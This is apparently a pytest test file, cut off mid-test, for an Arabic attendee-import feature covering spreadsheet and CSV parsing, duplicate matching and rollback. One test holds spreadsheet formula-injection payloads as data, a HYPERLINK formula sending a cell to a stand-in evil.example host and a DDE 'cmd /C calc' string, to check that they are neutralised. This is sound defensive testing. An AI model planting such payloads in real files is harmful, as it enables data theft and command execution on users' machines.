"""Importing attendees: reading real files in every format, guessing columns, planning,
matching duplicates, and applying in one transaction that a cancel rolls back."""

from __future__ import annotations

import datetime as dt
import io
import random
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlwt

from models import attendance, importer, persons, records, store
from models.importer import ImportFileError, Mapping, guess_mapping, parse_text, plan, read_table
from models.importer_map import find_header_row, header_field, mapping_for_header
from models.importer_read import MAX_ROWS, cell_text, choose_delimiter

TITLE = "كشف بأسماء المشاركين في الورشة التطويرية عن أهمية الاتصال الحكومي — جامعة كربلاء"
HEADER = ["ت", "الاسم الرباعي", "العنوان الوظيفي", "الجهة", "رقم الهاتف", "الجنس"]
# The seed workshop's attendees: representatives of the media sections of service and
# security directorates in Karbala, four-part names (one of three, one of five parts).
ATTENDEES = [
    ["1", "زينب علي حسين الأسدي", "مسؤولة شعبة الإعلام", "مديرية تربية كربلاء",
     "07701234567", "أنثى"],
    ["2", "حيدر عباس كاظم الموسوي", "منسق الاتصال الحكومي", "دائرة صحة كربلاء",
     "0780 123 4567", ""],
    ["3", "مصطفى جواد كاظم الخفاجي", "مدير قسم العلاقات العامة", "قيادة شرطة كربلاء",
     "+964 781 555 0101", "ذكر"],
    ["4", "فاطمة حسن عبد الأمير الطائي", "إعلامية", "مديرية بلدية كربلاء",
     "٠٧٥٠٢٢٢٣٣٣٤", ""],
    ["5", "أحمد صالح مهدي الجبوري", "مصور", "مديرية ماء كربلاء", "", "ذكر"],
    ["6", "نور الهدى قاسم محمد", "محررة", "العتبة الحسينية المقدسة", "07811112222", "F"],
    ["7", "علي حمزة عبد الكاظم جاسم الشمري", "مهندس", "مديرية كهرباء كربلاء",
     "07700000001", "M"],
]


def write_xlsx(path: Path, rows: list[list[object]], *, title: str | None = TITLE,
               sheet: str = "المشاركون") -> Path:
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = sheet
    ws.sheet_view.rightToLeft = True
    if title:
        ws.append([title])
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=6)
        ws.append([])
    for row in rows:
        ws.append(row)
    book.save(path)
    return path


def table_dump(db) -> dict[str, list[tuple]]:
    """Everything an import could touch, to compare before and after."""
    return {t: db.execute(f"SELECT * FROM {t} ORDER BY rowid").fetchall()
            for t in ("persons", "attendance", "search_docs", "search_fts")}


def on_list(db, activity_id: str) -> list[str]:
    return [a.person.full_name for a in attendance.attendees(db, activity_id)]


# --- the seed workshop from an .xlsx with a title row --------------------------------

def test_xlsx_with_arabic_headers_and_a_title_row(db, workshop, tmp_path):
    rows = [HEADER, *(list(r) for r in ATTENDEES)]
    rows[1][4] = 7701234567  # Excel took Zainab's phone for a number: its 0 is lost
    path = write_xlsx(tmp_path / "مشاركو الورشة.xlsx", rows)
    table = read_table(path)
    assert table.sheet == "المشاركون"
    assert table.rows[0][0] == TITLE and table.rows[1] == [""] * 6
    mapping = guess_mapping(table)
    assert mapping.header_row == 2
    assert mapping.columns == {1: "full_name", 2: "job_title", 3: "entity", 4: "phone",
                               5: "gender"}

    result = importer.apply(db, plan(db, table, mapping, workshop.id), workshop.id)

    assert (result.added, result.matched, result.skipped) == (7, 0, 0)
    assert on_list(db, workshop.id) == [r[1] for r in ATTENDEES]
    stored = {p.full_name: p for p in store.find(db, records.Person)}
    zainab = stored["زينب علي حسين الأسدي"]
    assert zainab.phone == "07701234567"
    assert (zainab.gender, zainab.gender_guessed) == ("f", False)
    assert (zainab.job_title, zainab.entity) == ("مسؤولة شعبة الإعلام", "مديرية تربية كربلاء")
    assert stored["حيدر عباس كاظم الموسوي"].phone == "0780 123 4567"
    assert (stored["حيدر عباس كاظم الموسوي"].gender,
            stored["حيدر عباس كاظم الموسوي"].gender_guessed) == ("m", True)
    assert (stored["فاطمة حسن عبد الأمير الطائي"].gender,
            stored["فاطمة حسن عبد الأمير الطائي"].gender_guessed) == ("f", True)
    assert stored["نور الهدى قاسم محمد"].gender == "f"
    assert stored["علي حمزة عبد الكاظم جاسم الشمري"].gender == "m"
    assert stored["مصطفى جواد كاظم الخفاجي"].phone == "+964 781 555 0101"
    # Everyone attended both days of the two-day workshop.
    assert {tuple(a.days) for a in attendance.attendees(db, workshop.id)} == {(1, 2)}


def test_numeric_cells_read_without_a_trailing_zero(tmp_path):
    path = write_xlsx(tmp_path / "n.xlsx", [
        ["الاسم", "الهاتف", "العدد", "التاريخ", "نسبة"],
        ["زينب علي حسين", 7801234567.0, 12, dt.datetime(2026, 11, 22), 0.1 + 0.2],
    ], title=None)
    assert read_table(path).rows[1] == ["زينب علي حسين", "7801234567", "12", "2026-11-22", "0.3"]


def test_a_formula_cell_gives_its_value_never_the_formula(tmp_path):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["الاسم", "الجهة"])
    ws.append(["زينب علي حسين", '=CONCATENATE("دائرة"," صحة")'])  # no cached value saved
    book.save(tmp_path / "f.xlsx")
    assert read_table(tmp_path / "f.xlsx").rows[1] == ["زينب علي حسين", ""]


def test_old_xls(db, workshop, tmp_path):
    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("Sheet1", cell_overwrite_ok=True)
    ws.write(0, 0, TITLE)
    for c, text in enumerate(HEADER):
        ws.write(2, c, text)
    for r, row in enumerate(ATTENDEES[:3], start=3):
        for c, value in enumerate(row):
            ws.write(r, c, int(value) if c == 0 else value)
    ws.write(3, 4, 7701234567)  # a number, as Excel keeps it
    ws.write(6, 1, "ملاحظة")
    ws.write(6, 2, dt.date(2026, 11, 22), xlwt.easyxf(num_format_str="YYYY-MM-DD"))
    book.save(str(tmp_path / "قديم.xls"))

    table = read_table(tmp_path / "قديم.xls")
    assert table.rows[3][:2] == ["1", "زينب علي حسين الأسدي"]
    assert table.rows[3][4] == "7701234567"
    assert table.rows[6][2] == "2026-11-22"
    mapping = guess_mapping(table)
    assert mapping.header_row == 2
    result = importer.apply(db, plan(db, table, mapping, workshop.id), workshop.id)
    assert (result.added, result.matched) == (4, 0)
    assert store.find(db, records.Person, "full_name = ?", ("زينب علي حسين الأسدي",)
                      )[0].phone == "07701234567"


# --- CSV in every encoding and delimiter Excel and Windows produce --------------------

@pytest.mark.parametrize(("encoding", "delimiter"), [
    ("utf-8", ","),
    ("utf-8-sig", ","),  # Excel's "CSV UTF-8"
    ("utf-8", ";"),
    ("utf-8", "\t"),
    ("utf-16", "\t"),  # Excel's "Unicode text": UTF-16 LE with a BOM, tab-separated
    ("utf-16-be", "\t"),
    ("cp1256", ";"),  # Arabic Windows' CSV, semicolons where the list separator is ;
    ("cp1256", ","),
])
def test_csv_encodings_and_delimiters(db, workshop, tmp_path, encoding, delimiter):
    rows = [[TITLE], HEADER, *ATTENDEES[:5]]
    if encoding == "cp1256":  # cp1256 has no Arabic-Indic digits: such files have Western
        rows = [[c.replace("٠٧٥٠٢٢٢٣٣٣٤", "07502223334") for c in row] for row in rows]
    text = "\r\n".join(delimiter.join(r) for r in rows) + "\r\n"
    if encoding == "utf-16-be":  # with a BOM, as a Mac might write it
        path = tmp_path / "list.txt"
        path.write_bytes(b"\xfe\xff" + text.encode("utf-16-be"))
    else:
        path = tmp_path / "list.csv"
        path.write_bytes(text.encode(encoding))
    table = read_table(path)
    assert table.rows[0][0] == TITLE
    assert table.rows[1:] == rows[1:]
    result = importer.apply(db, plan(db, table, guess_mapping(table), workshop.id), workshop.id)
    assert result.added == 5
    assert on_list(db, workshop.id)[0] == "زينب علي حسين الأسدي"


def test_csv_with_quotes_commas_and_line_breaks_in_cells(tmp_path):
    path = tmp_path / "q.csv"
    path.write_text('الاسم,الجهة,ملاحظات\r\n"زينب علي حسين","دائرة صحة كربلاء، قسم الإعلام",'
                    '"سطر أول\nسطر ثان"\r\n', encoding="utf-8")
    table = read_table(path)
    assert table.rows[1] == ["زينب علي حسين", "دائرة صحة كربلاء، قسم الإعلام",
                             "سطر أول\nسطر ثان"]


def test_delimiter_is_the_one_that_splits_lines_evenly():
    assert choose_delimiter("الاسم;الجهة\nعلي, حسن;دائرة\nزينب;مديرية\n") == ";"
    assert choose_delimiter("الاسم\tالجهة\nعلي\tدائرة, قسم\n") == "\t"
    assert choose_delimiter("a,b,c\n1,2,3\n") == ","


def test_paste_from_excel(db, workshop):
    text = "\r\n".join("\t".join(r) for r in [HEADER, *ATTENDEES[:3]]) + "\r\n"
    text = text.replace("مدير قسم العلاقات العامة", '"مدير قسم\nالعلاقات العامة"')
    table = parse_text(text)
    assert table.source == "الحافظة"
    assert table.rows[3][2] == "مدير قسم\nالعلاقات العامة"
    result = importer.apply(db, plan(db, table, guess_mapping(table), workshop.id), workshop.id)
    assert result.added == 3
    # A single-line field folds the line break to a space.
    assert store.find(db, records.Person, "full_name = ?", ("مصطفى جواد كاظم الخفاجي",)
                      )[0].job_title == "مدير قسم العلاقات العامة"


def test_paste_of_names_only_without_header(db, workshop):
    table = parse_text("زينب علي حسين الأسدي\nحيدر عباس كاظم الموسوي\n")
    mapping = guess_mapping(table)
    assert mapping.header_row is None and mapping.columns == {0: "full_name"}
    result = importer.apply(db, plan(db, table, mapping, workshop.id), workshop.id)
    assert result.added == 2


# --- formulas -------------------------------------------------------------------------

def test_formula_looking_cells_are_never_stored_as_formulas(db, workshop, tmp_path):
    path = tmp_path / "f.csv"
    rows = [
        ["الاسم", "العنوان الوظيفي", "الجهة", "الهاتف", "ملاحظات"],
        ['=HYPERLINK("http://evil.example/?x="&A1,"زينب علي حسين")', "=1+2", "@SUM(A1:A9)",
         "+964 770 123 4567", "-2+3"],
        ["حيدر عباس كاظم الموسوي", "+cmd|' /C calc'!A0", "\t=2*3", "-", "-5"],
    ]
    path.write_text("\n".join(",".join(f'"{c.replace(chr(34), 2 * chr(34))}"' for c in r)
                              for r in rows), encoding="utf-8")
    table = read_table(path)
    the_plan = plan(db, table, guess_mapping(table), workshop.id)
    importer.apply(db, the_plan, workshop.id)
    found = {p.phone or "none": p for p in store.find(db, records.Person)}
    first, second = found["+964 770 123 4567"], found["none"]
    assert first.full_name == 'HYPERLINK("http://evil.example/?x="&A1,"زينب علي حسين")'
    assert (first.job_title, first.entity, first.notes) == ("1+2", "SUM(A1:A9)", "2+3")
    assert second.job_title == "cmd|' /C calc'!A0"
    assert second.entity == "2*3"
    assert second.notes == "-5"  # a plain number is a number
    for person in (first, second):
        for f in ("full_name", "job_title", "entity", "phone", "email", "notes"):
            value = getattr(person, f)
            assert not value.startswith(("=", "@", "\t", "\r")), (f, value)
            assert not value.startswith(("+", "-")) or f in ("phone", "notes")
    notes = {(n.row, n.field) for n in the_plan.notes}
    assert notes == {(2, "full_name"), (2, "job_title"), (2, "entity"), (2, "notes"),
                     (3, "job_title"), (3, "entity")}
    assert all("تبدو صيغة" in n.message for n in the_plan.notes)


def test_formula_text_in_an_xlsx_string_cell(db, workshop, tmp_path):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["الاسم الرباعي", "الجهة"])
    ws.append(["زينب علي حسين الأسدي", "=1+2"])
    ws.cell(2, 2).data_type = "s"  # text that starts with "=", not a formula
    book.save(tmp_path / "s.xlsx")
    table = read_table(tmp_path / "s.xlsx")
    assert table.rows[1][1] == "=1+2"
    importer.apply(db, plan(db, table, guess_mapping(table), workshop.id), workshop.id)
    assert store.find(db, records.Person)[0].entity == "1+2"


def test_phones_excel_turned_into_numbers(db, workshop):
    table = parse_text("الاسم\tالهاتف\nزينب علي\t7701234567\nحيدر عباس\t7801234567.0\n"
                       "مصطفى جواد\t٧٥٠١٢٣٤٥٦٧\nأحمد صالح\t771234567\nنور قاسم\t6701234567\n")
    phones = [r.person.phone for r in plan(db, table, guess_mapping(table), workshop.id).rows]
    # Only a 10-digit number starting with 7 (an Iraqi mobile) gets its lost 0 back.
    assert phones == ["07701234567", "07801234567", "٠٧٥٠١٢٣٤٥٦٧", "771234567", "6701234567"]


@pytest.mark.parametrize(("raw", "kept", "removed"), [
    ("=1+2", "1+2", "="), ("@SUM(A1)", "SUM(A1)", "@"), ("-2+3", "2+3", "-"),
    ("+964 770 123 4567", "+964 770 123 4567", ""), ("-5", "-5", ""), ("+1.5", "+1.5", ""),
    ("==+x", "x", "==+"), (" =x", "x", "="), ("زينب", "زينب", ""), ("", "", ""),
])
def test_defuse(raw, kept, removed):
    assert importer.defuse(raw) == (kept, removed)


# --- duplicates -----------------------------------------------------------------------

def test_duplicates_against_the_database_and_within_the_file(db, workshop, tmp_path):
    zainab = store.insert(db, records.Person(full_name="زينب علي حسين الأسدي",
                                             phone="07701234567", gender="f"))
    haidar = store.insert(db, records.Person(full_name="حيدر عباس كاظم الموسوي",
                                             phone="07801234567"))
    before = store.count(db, records.Person)
    rows = [
        ["الاسم الرباعي", "الهاتف"],
        ["زينب علي حسين الاسدي", ""],  # 2: hamza variant of a known name
        ["حيدرعباس", "+964 780 123 4567"],  # 3: Haidar's phone, written the +964 way
        ["حيدر ع. كاظم", "٠٧٨٠-١٢٣-٤٥٦٧"],  # 4: the same phone in Arabic-Indic digits
        ["علي حمزة عبد الكاظم الشمري", "07711111111"],  # 5: new
        ["علي حمزه عبد الكاظم الشمري", ""],  # 6: row 5 again, taa marbuta as haa
        ["مريم جواد كاظم", "0771 111 1111"],  # 7: row 5's phone, spaced
        ["سجاد محمد رضا", ""],  # 8: new
    ]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    result = importer.apply(db, plan(db, table, guess_mapping(table), workshop.id),
                            workshop.id)

    assert (result.added, result.matched, result.skipped) == (2, 5, 0)
    assert store.count(db, records.Person) == before + 2
    ali = store.find(db, records.Person, "full_name = ?", ("علي حمزة عبد الكاظم الشمري",))[0]
    by_row = {d.row: d for d in result.duplicates}
    assert (by_row[2].matched_id, by_row[2].reason) == (zainab.id, "الاسم نفسه")
    assert (by_row[3].matched_id, by_row[3].reason) == (haidar.id, "رقم الهاتف نفسه")
    assert (by_row[4].matched_id, by_row[4].reason) == (haidar.id, "رقم الهاتف نفسه")
    assert (by_row[6].matched_id, by_row[6].reason, by_row[6].matched_row) == (
        ali.id, "الاسم نفسه", 5)
    assert (by_row[7].matched_id, by_row[7].reason, by_row[7].matched_row) == (
        ali.id, "رقم الهاتف نفسه", 5)
    assert by_row[2].matched_name == "زينب علي حسين الأسدي"
    assert set(by_row) == {2, 3, 4, 6, 7}
    names = on_list(db, workshop.id)
    assert sorted(names) == sorted(["زينب علي حسين الأسدي", "حيدر عباس كاظم الموسوي",
                                    "علي حمزة عبد الكاظم الشمري", "سجاد محمد رضا"])
    # The existing records are used as they are.
    assert store.get(db, records.Person, zainab.id) == zainab


def test_batch_matching_agrees_with_persons_matches(db, workshop):
    known = [store.insert(db, records.Person(full_name=f"محمد علي حسين {i}",
                                             phone=f"0770000{i:04d}")) for i in range(30)]
    store.delete(db, records.Person, known[3].id)  # in the recycle bin: not matched
    rows = [["الاسم", "الهاتف"]] + [[f"محمد علي حسين {i}", ""] for i in range(0, 30, 3)] + \
        [[f"شخص {i}", f"+964 770 000 {i:04d}"] for i in range(1, 30, 3)]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    the_plan = plan(db, table, guess_mapping(table), workshop.id)
    for row in the_plan.rows:
        expected = persons.matches(db, row.person.full_name, row.person.phone)
        if expected:
            assert row.duplicate is not None and row.duplicate.matched_id == expected[0].id
        else:
            assert row.status == "new"
    assert sum(r.status == "new" for r in the_plan.rows) == 1  # only "محمد علي حسين 3"


def test_persons_already_on_the_list_are_skipped(db, workshop, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", [HEADER, *ATTENDEES])
    first = importer.import_file(db, str(path), workshop.id)[0]
    assert first.added == 7
    again = importer.import_file(db, str(path), workshop.id)[0]
    assert (again.added, again.matched, again.skipped, again.on_list) == (0, 0, 7, 7)
    assert len(on_list(db, workshop.id)) == 7
    assert store.count(db, records.Person) == 7


def test_someone_removed_from_the_list_comes_back(db, workshop, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", [HEADER, *ATTENDEES[:2]])
    importer.import_file(db, str(path), workshop.id)
    row = attendance.attendees(db, workshop.id)[0]
    attendance.remove(db, row.attendance_id)
    result = importer.import_file(db, str(path), workshop.id)[0]
    assert (result.matched, result.on_list) == (1, 1)
    assert len(on_list(db, workshop.id)) == 2


# --- problems, empty rows -------------------------------------------------------------

def test_rows_with_problems_are_listed_and_skipped(db, workshop):
    rows = [
        ["الاسم الرباعي", "الهاتف", "البريد الإلكتروني", "الجنس"],
        ["زينب علي حسين الأسدي", "07701234567", "zainab@edu.iq", "أنثى"],
        ["حيدر عباس كاظم", "هاتف المكتب", "", ""],
        ["", "07801234567", "", ""],
        ["مصطفى جواد", "", "mustafa@", "ذكر"],
        ["نور قاسم", "", "", "لا أعرف"],
    ]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    the_plan = plan(db, table, guess_mapping(table), workshop.id)
    problems = [(p.row, p.field) for p in the_plan.problems]
    assert problems == [(3, "phone"), (4, "full_name"), (5, "email")]
    expected = records.problems(records.clean(records.Person(full_name="حيدر عباس كاظم",
                                                             phone="هاتف المكتب")))
    assert the_plan.problems[0].message == str(expected[0])
    assert the_plan.rows[4].notes[0].message.startswith("قيمة الجنس «لا أعرف» غير معروفة")
    result = importer.apply(db, the_plan, workshop.id)
    assert (result.added, result.skipped) == (2, 3)
    assert sorted(on_list(db, workshop.id)) == ["زينب علي حسين الأسدي", "نور قاسم"]


def test_empty_and_numbered_template_rows_are_skipped_silently(db, workshop, tmp_path):
    rows = [HEADER, ATTENDEES[0], ["2", "", "", "", "", ""], [], ATTENDEES[1],
            ["4", "-", "", "لا يوجد", "", ""]]
    path = write_xlsx(tmp_path / "t.xlsx", rows)
    table = read_table(path)
    the_plan = plan(db, table, guess_mapping(table), workshop.id)
    assert [(r.row, r.status) for r in the_plan.rows] == [
        (4, "new"), (5, "empty"), (6, "empty"), (7, "new"), (8, "empty")]
    assert the_plan.problems == []
    assert (the_plan.added, the_plan.empty, the_plan.skipped) == (2, 3, 3)


def test_no_name_column_is_refused(db, workshop):
    table = parse_text("الجهة\tالهاتف\nدائرة صحة كربلاء\t07701234567\n")
    with pytest.raises(ImportFileError) as caught:
        plan(db, table, guess_mapping(table), workshop.id)
    assert "عمود الأسماء" in str(caught.value)


# --- headers and mapping --------------------------------------------------------------

@pytest.mark.parametrize(("header", "field"), [
    ("الاسم", "full_name"), ("الأسم", "full_name"), ("الاسم الرباعي", "full_name"),
    ("الاسم الثلاثي", "full_name"), ("اسم المشارك", "full_name"),
    ("الاسم الكامل", "full_name"), ("Name", "full_name"), ("Full Name", "full_name"),
    ("العنوان الوظيفي", "job_title"), ("الوظيفة", "job_title"), ("المنصب", "job_title"),
    ("Job title", "job_title"), ("Position", "job_title"), ("Title", "job_title"),
    ("الجهة", "entity"), ("الدائرة", "entity"), ("المؤسسة", "entity"),
    ("جهة العمل", "entity"), ("الوزارة", "entity"), ("Organisation", "entity"),
    ("Organization", "entity"), ("Entity", "entity"), ("Department", "entity"),
    ("اسم الجهة", "entity"), ("الهاتف", "phone"), ("رقم الهاتف", "phone"),
    ("الموبايل", "phone"), ("رقم الموبايل", "phone"), ("Phone", "phone"), ("Mobile", "phone"),
    ("Tel", "phone"), ("رقم الهاتف:", "phone"), ("البريد", "email"),
    ("البريد الإلكتروني", "email"), ("البريد الالكتروني", "email"), ("الايميل", "email"),
    ("Email", "email"), ("E-mail", "email"), ("الجنس", "gender"), ("Gender", "gender"),
    ("Sex", "gender"), ("ملاحظات", "notes"), ("ت", "skip"), ("تسلسل", "skip"),
    ("#", "skip"), ("No.", "skip"), ("التوقيع", "skip"), ("اسم الأم", "skip"),
    ("", None), ("زينب علي حسين", None), (TITLE, None), ("المحافظة", None),
])
def test_header_synonyms(header, field):
    assert header_field(header) == field


def test_header_found_below_a_letterhead(tmp_path):
    rows = [["جمهورية العراق"], ["وزارة التعليم العالي والبحث العلمي"], ["جامعة كربلاء"],
            [], [TITLE], ["Full name", "Job title", "Organisation", "Mobile", "E-mail"],
            ["Zainab Ali Hussein", "Editor", "Karbala Health", "07701234567", "z@x.iq"]]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    assert find_header_row(table) == 5
    assert guess_mapping(table).columns == {0: "full_name", 1: "job_title", 2: "entity",
                                            3: "phone", 4: "email"}


def test_a_name_split_over_columns_is_joined(db, workshop):
    rows = [["الاسم", "اسم الأب", "اسم الجد", "اللقب", "اسم الأم"],
            ["زينب", "علي", "حسين", "الأسدي", "فاطمة"]]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    mapping = guess_mapping(table)
    assert mapping.columns_of("full_name") == [0, 1, 2, 3]
    assert mapping.field_of(4) is None
    assert plan(db, table, mapping, workshop.id).rows[0].person.full_name == \
        "زينب علي حسين الأسدي"


def test_mapping_assign_leaves_other_columns_alone():
    mapping = Mapping(0, {0: "full_name", 1: "phone"})
    both = mapping.assign(2, "phone")
    assert both.columns == {0: "full_name", 1: "phone", 2: "phone"}
    assert both.conflicts == ["phone"]
    assert mapping.columns == {0: "full_name", 1: "phone"}  # unchanged: a copy
    assert mapping.conflicts == []
    assert both.assign(1, None).columns == {0: "full_name", 2: "phone"}
    names = both.assign(1, None).assign(3, "full_name")
    assert (names.columns_of("full_name"), names.conflicts) == ([0, 3], [])
    with pytest.raises(ValueError):
        mapping.assign(0, "password")


def test_contents_guess_without_header():
    table = parse_text("زينب علي حسين الأسدي\t07701234567\tz@edu.iq\tأنثى\n"
                       "حيدر عباس كاظم الموسوي\t07801234567\th@edu.iq\tذكر\n")
    assert mapping_for_header(table, None).columns == {0: "full_name", 1: "phone",
                                                       2: "email", 3: "gender"}


def test_sheet_choice(tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "فارغة"
    second = book.create_sheet("القائمة")
    second.append(["الاسم"])
    second.append(["زينب علي حسين"])
    third = book.create_sheet("أخرى")
    third.append(["الاسم"])
    third.append(["حيدر عباس"])
    book.save(tmp_path / "s.xlsx")
    table = read_table(tmp_path / "s.xlsx")
    assert (table.sheet, table.sheets) == ("القائمة", ["فارغة", "القائمة", "أخرى"])
    assert read_table(tmp_path / "s.xlsx", sheet="أخرى").rows[1] == ["حيدر عباس"]


@pytest.mark.parametrize(("value", "text"), [
    (None, ""), (7701234567.0, "7701234567"), (12, "12"), (1.5, "1.5"), (True, "TRUE"),
    (dt.datetime(2026, 11, 22), "2026-11-22"), (dt.datetime(2026, 11, 22, 9, 30),
                                                "2026-11-22 09:30:00"),
    (dt.date(2026, 11, 23), "2026-11-23"), ("#N/A", ""), ("نص", "نص"),
])
def test_cell_text(value, text):
    assert cell_text(value) == text


# --- broken files change nothing ------------------------------------------------------

def _valid_xlsx_bytes(tmp_path: Path) -> bytes:
    return write_xlsx(tmp_path / "ok.xlsx", [HEADER, *ATTENDEES]).read_bytes()


def _ole2_encrypted() -> bytes:
    # What a password-protected .xlsx looks like from outside: an OLE2 compound file
    # holding an "EncryptedPackage" stream.
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedInfo".encode(
        "utf-16-le") + bytes(64) + "EncryptedPackage".encode("utf-16-le") + bytes(2048))


def _zip_of_other_things() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


BROKEN = {
    "truncated.xlsx": lambda tmp: _valid_xlsx_bytes(tmp)[:1500],
    "report.xlsx": lambda tmp: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\n",
    "empty.xlsx": lambda tmp: b"",
    "empty.csv": lambda tmp: b"",
    "blank.csv": lambda tmp: b" \r\n\r\n ,, \r\n",
    "garbage.csv": lambda tmp: random.Random(7).randbytes(4096),
    "protected.xlsx": lambda tmp: _ole2_encrypted(),
    "letter.xlsx": lambda tmp: _zip_of_other_things(),
    "not-really.xls": lambda tmp: b"<html><body><table><tr><td>x</td></tr></table></body></html>",
    "damaged.xls": lambda tmp: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(700),
    "bad-utf16.csv": lambda tmp: b"\xff\xfe" + b"\x00\xd8" * 5,
}


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_broken_files_raise_a_message_and_change_nothing(db, workshop, tmp_path, name):
    store.insert(db, records.Person(full_name="زينب علي حسين الأسدي"))
    path = tmp_path / name
    path.write_bytes(BROKEN[name](tmp_path))
    before = table_dump(db)
    with pytest.raises(ImportFileError) as caught:
        importer.import_file(db, str(path), workshop.id)
    error = caught.value
    assert any("\u0621" <= ch <= "\u064a" for ch in str(error))  # an Arabic message
    assert name in str(error) and name in error.english
    assert table_dump(db) == before


def test_the_messages_say_what_is_wrong(tmp_path):
    def message(name: str) -> str:
        path = tmp_path / name
        path.write_bytes(BROKEN[name](tmp_path))
        with pytest.raises(ImportFileError) as caught:
            read_table(path)
        return str(caught.value)

    assert "PDF" in message("report.xlsx")
    assert "كلمة مرور" in message("protected.xlsx")
    assert "فارغ" in message("empty.csv")
    assert "تالف" in message("truncated.xlsx")
    assert "نصاً مقروءاً" in message("garbage.csv")
    with pytest.raises(ImportFileError, match="غير موجود"):
        read_table(tmp_path / "missing.xlsx")


def test_too_big_and_too_many_rows(tmp_path):
    big = tmp_path / "big.csv"
    with big.open("wb") as fh:
        fh.truncate(21 * 1024 * 1024)
    with pytest.raises(ImportFileError, match="أكبر من 20 ميغابايت"):
        read_table(big)
    many = tmp_path / "many.csv"
    many.write_text("الاسم\n" + "".join(f"شخص {i}\n" for i in range(MAX_ROWS + 1)),
                    encoding="utf-8")
    with pytest.raises(ImportFileError, match="أكثر من 10000 صف"):
        read_table(many)
    with pytest.raises(ImportFileError, match="أكثر من 10000 صف"):
        parse_text(many.read_text(encoding="utf-8"))
    exactly = tmp_path / "exactly.csv"
    exactly.write_text("".join(f"شخص {i}\n" for i in range(MAX_ROWS)), encoding="utf-8")
    assert len(read_table(exactly).rows) == MAX_ROWS


# --- one transaction ------------------------------------------------------------------

class Stop(Exception):
    """Stands for the user's Cancel."""


def test_cancel_during_apply_changes_nothing(db, workshop):
    store.insert(db, records.Person(full_name="زينب علي حسين الأسدي"))
    rows = [["الاسم الرباعي", "الهاتف"]] + [[f"مشارك رقم {i} كاظم", f"0770{i:07d}"]
                                              for i in range(300)]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    the_plan = plan(db, table, guess_mapping(table), workshop.id)
    before = table_dump(db)
    calls = []

    def progress(done: int, total: int) -> None:
        calls.append((done, total))
        if done >= 150:
            raise Stop

    with pytest.raises(Stop):
        importer.apply(db, the_plan, workshop.id, progress)
    assert calls == [(0, 300), (50, 300), (100, 300), (150, 300)]
    assert table_dump(db) == before
    assert not db.conn.in_transaction


def test_apply_matches_persons_added_after_the_preview(db, workshop):
    table = parse_text("الاسم\nزينب علي حسين الأسدي\n")
    the_plan = plan(db, table, guess_mapping(table), workshop.id)
    assert the_plan.added == 1
    zainab = store.insert(db, records.Person(full_name="زينب علي حسين الاسدي"))
    result = importer.apply(db, the_plan, workshop.id)
    assert (result.added, result.matched, result.person_ids) == (0, 1, [zainab.id])
    assert store.count(db, records.Person) == 1


def test_five_thousand_rows_in_a_few_seconds(db, workshop):
    rng = random.Random(3)
    first = "محمد علي حسين زينب فاطمة حيدر عباس كاظم جعفر مريم نور سجاد مصطفى أحمد".split()
    rows = [["ت", "الاسم الرباعي", "العنوان الوظيفي", "الجهة", "الهاتف"]]
    rows += [[str(i), " ".join(rng.choice(first) for _ in range(3)) + f" {i}", "موظف",
              "دائرة صحة كربلاء", f"077{rng.randrange(10 ** 8):08d}"] for i in range(5000)]
    table = parse_text("\n".join("\t".join(r) for r in rows))
    start = time.process_time()
    result = importer.apply(db, plan(db, table, guess_mapping(table), workshop.id),
                            workshop.id)
    seconds = time.process_time() - start
    assert result.added + result.matched == 5000
    assert attendance.count(db, workshop.id) == result.added + len(
        {d.matched_id for d in result.duplicates})
    assert seconds < 15, seconds  # about 3 s of CPU on the development machine


# --- compound names and three-part names (issue 11) -----------------------------------

def test_compound_names_joined_or_apart_are_one_person(db, workshop):
    known = store.insert(db, records.Person(full_name="علي عبدالزهرة كاظم الموسوي"))
    rows = [["الاسم الرباعي"], ["علي عبد الزهرة كاظم الموسوي"],  # 2: the known one, apart
            ["عبدالله حسين علي الطائي"],                           # 3: new
            ["عبد الله حسين علي الطائي"],                          # 4: row 3, apart
            ["نور الدين صالح مهدي"], ["نورالدين صالح مهدي"]]        # 5: new; 6: row 5
    table = parse_text("\n".join("\t".join(r) for r in rows))
    result = importer.apply(db, plan(db, table, guess_mapping(table), workshop.id))
    assert (result.added, result.matched) == (2, 3)
    by_row = {d.row: d for d in result.duplicates}
    assert (by_row[2].matched_id, by_row[2].reason) == (known.id, "الاسم نفسه")
    assert (by_row[4].matched_row, by_row[4].reason) == (3, "الاسم نفسه")
    assert by_row[6].matched_row == 5
    assert sorted(on_list(db, workshop.id)) == sorted([
        "علي عبدالزهرة كاظم الموسوي", "عبدالله حسين علي الطائي", "نور الدين صالح مهدي"])


def test_a_three_part_name_of_a_known_four_part_one_is_offered(db, workshop):
    four = store.insert(db, records.Person(full_name="علي عبد الزهرة كاظم الموسوي",
                                           entity="مديرية تربية كربلاء"))
    store.insert(db, records.Person(full_name="حيدر كاظم جواد", entity="دائرة صحة كربلاء"))
    rows = [["الاسم", "الجهة", "الهاتف"],
            ["علي عبدالزهرة كاظم", "مديرية تربيه كربلاء", ""],      # 2: offered (entity)
            ["حسن جواد كاظم العلي", "دائرة صحة كربلاء", "07801112222"],  # 3: new
            ["حسن جواد كاظم", "قيادة شرطة كربلاء", "0780 111 2222"],   # 4: row 3's phone
            ["مريم جواد كاظم", "دائرة صحة كربلاء", ""],              # 5: new
